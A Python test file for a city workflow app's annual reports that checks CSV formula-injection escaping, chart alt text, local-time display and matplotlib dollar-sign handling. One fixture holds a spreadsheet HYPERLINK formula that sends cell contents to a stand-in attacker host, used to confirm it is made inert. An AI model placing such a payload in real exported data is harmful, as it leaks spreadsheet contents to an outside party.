"""The report's CSV is opened in spreadsheets: text a requester typed must show there, not run."""
from __future__ import annotations

import base64
import csv
import io
from decimal import Decimal

import pytest

from extensions import db
from reports.charts import draw
from reports.render import _inert
from tests.factories import TEST_PASSWORD
from tests.workflows.relief.conftest import relief_data
from workflows import engine

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click for details")'


def test_a_formula_typed_into_a_request_reaches_the_csv_as_text(make_user, api):
    sam, cara = make_user("sam", "staff"), make_user("cara", "cao")
    case = engine.create_case(db.session, sam, "relief", "Flood relief", ["compassion"], relief_data(country=FORMULA))
    engine.fire(db.session, sam, case.id, "submit", case.version)
    client = api(cara)

    rows = list(csv.reader(io.StringIO(client.get("/api/v1/reports/annual?format=csv").get_data(as_text=True))))
    countries = {group for section, measure, group, _value in rows[1:] if measure.startswith("by_country.")}
    assert countries == {"'" + FORMULA}  # a leading apostrophe: the spreadsheet shows the text
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    # Figures stay numbers, and the other formats keep the text as typed.
    assert any(value == "1" for section, measure, group, value in rows if measure == "by_country.requests")
    by_country = client.get("/api/v1/reports/annual").get_json()["relief"]["by_country"]
    assert [row["country"] for row in by_country] == [FORMULA]


@pytest.mark.parametrize("typed, written", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-1250.00", "-1250.00"), ("+7", "+7"), ("2026-11-29", "2026-11-29"), ("Brazil", "Brazil"),
    ("travel:None>submit>submitted", "travel:None>submit>submitted"), (3, 3), (None, None)])
def test_only_text_a_spreadsheet_would_run_is_made_inert(typed, written):
    assert _inert(typed) == written


@pytest.mark.parametrize("title, points, unit, said", [
    ("Trips completed per month", [("Jan", 0), ("Jul", 1), ("Aug", 0)], "trips", "The largest is July with 1 trip."),
    ("Relief granted by country (dollars)", [("Peru", Decimal("15000.00")), ("Chile", Decimal("900.50"))], "dollars",
     "The largest is Peru with $15,000.00."),
    ("Requests submitted per goal", [("compassion", 18), ("research", 3)], "requests",
     "The largest is compassion with 18 requests."),
    ("Time taken by each workflow step (days)", [("travel: approve", 2.5)], "days",
     "The largest is travel: approve with 2.5 days."),
    # A tie names every one of them: "July with 1 trip" read as if July stood out.
    ("Trips completed per month", [("Jul", 1), ("Aug", 0), ("Sep", 1), ("Oct", 1)], "trips",
     "The largest, with 1 trip each, are July, September and October."),
    ("Trips completed per month", [(m, 2) for m in ("Jan", "Feb", "Mar", "Apr", "May")], "trips",
     "The largest, with 2 trips each, are January, February, March and 2 others."),
])
def test_a_charts_text_reads_its_largest_value_as_a_person_would(title, points, unit, said):
    # It read "Jul with 1.0 trips" and "Peru with 15,000.0 dollars".
    assert said in draw("c", title, points, unit).alt


def test_the_relief_chart_draws_only_countries_granted_relief():
    # "Relief granted by country" drew a bar of $0 for Pakistan, whose only request was declined.
    from tests.reports.expected import RELIEF_2025
    from workflows.relief.report import SECTION

    chart, = SECTION.charts
    figures = {"by_country": [{**row, "amount_granted": Decimal(row["amount_granted"])}  # as compute gives them
                              for row in RELIEF_2025["by_country"]]}
    assert [country for country, _ in chart.points(figures)] == ["El Salvador", "Philippines", "Turkey"]


def test_the_report_says_when_it_was_generated_in_the_citys_time():
    # The title page read "Generated 2026-02-01T17:00:00Z (UTC)".
    from reports.render import generated_locally

    assert generated_locally("2026-02-01T17:00:00Z") == "1 February 2026, 12:00 (Toronto time)"
    assert generated_locally("2026-07-01T03:30:00Z") == "30 June 2026, 23:30 (Toronto time)"  # daylight time


def test_the_goals_chart_names_the_goals_as_the_table_beside_it_does(monkeypatch):
    # The chart and its text said "compassion" and "human rights" beside a table of the goals' names.
    from reports import charts

    monkeypatch.setattr(charts, "sections", lambda: [])  # (the goals' chart alone)
    drawn = charts.report_charts({"goals": {"compassion": 5, "human_rights": 2}, "cycle_times": {}})["goals"]
    assert "The largest is Compassionate and caring city with 5 requests." in drawn.alt
    assert [label for label, _ in drawn.points] == ["Compassionate and caring city", "Leader in human rights and diversity"]


def test_the_cycle_times_chart_names_workflows_by_their_titles(app, monkeypatch):
    from reports import charts

    monkeypatch.setattr(charts, "sections", lambda: [])
    step = {"label": "Approve", "median_hours": 48, "p90_hours": 96}
    drawn = charts.report_charts({"goals": {}, "cycle_times": {"travel": [step]}})["cycle_times"]
    assert [label for label, _ in drawn.points] == ["Travel request: Approve"]


def test_the_page_gives_a_steps_hours_as_the_json_and_csv_do(app, make_user, monkeypatch):
    # The page rounded 2.25 hours to "2.2" beside 2.25 in the JSON and the CSV of the same report.
    from reports import views

    computed = views.compute_annual

    def with_a_quarter_hour(*args, **kwargs):
        report = computed(*args, **kwargs)
        report["cycle_times"]["travel"] = [{"step": "approve", "label": "Approve", "from_state": "submitted",
                                            "to_state": "approved", "count": 2, "median_hours": 2.25,
                                            "p90_hours": 10.35}]
        return report

    monkeypatch.setattr(views, "compute_annual", with_a_quarter_hour)
    make_user("cara", "cao", department="Chief Administrative Officer")
    me = app.test_client()
    me.post("/login", data={"username": "cara", "password": TEST_PASSWORD})
    page = " ".join(me.get("/reports/annual?year=2025").get_data(as_text=True).split())
    assert '<th scope="row">Approve</th><td class="num">2</td><td class="num">2.25</td><td class="num">10.35</td>' in page


def test_a_country_typed_with_dollar_signs_is_drawn_as_typed():
    # matplotlib read text between two "$" as a formula: "$\foo$" failed the report's page and PDF
    # for the whole year (500), and "Costa $Rica$" was drawn as mathematics.
    from workflows.relief.report import SECTION

    chart, = SECTION.charts
    figures = {"by_country": [{"country": country, "amount_granted": Decimal("1000.00")}
                              for country in (r"$\foo$", "Costa $Rica$")]}
    drawn = draw("relief", "Relief granted by country", chart.points(figures), "dollars", horizontal=True)
    svg = base64.b64decode(drawn.uri.partition(",")[2]).decode()
    assert r"$\foo$" in svg and "Costa $Rica$" in svg
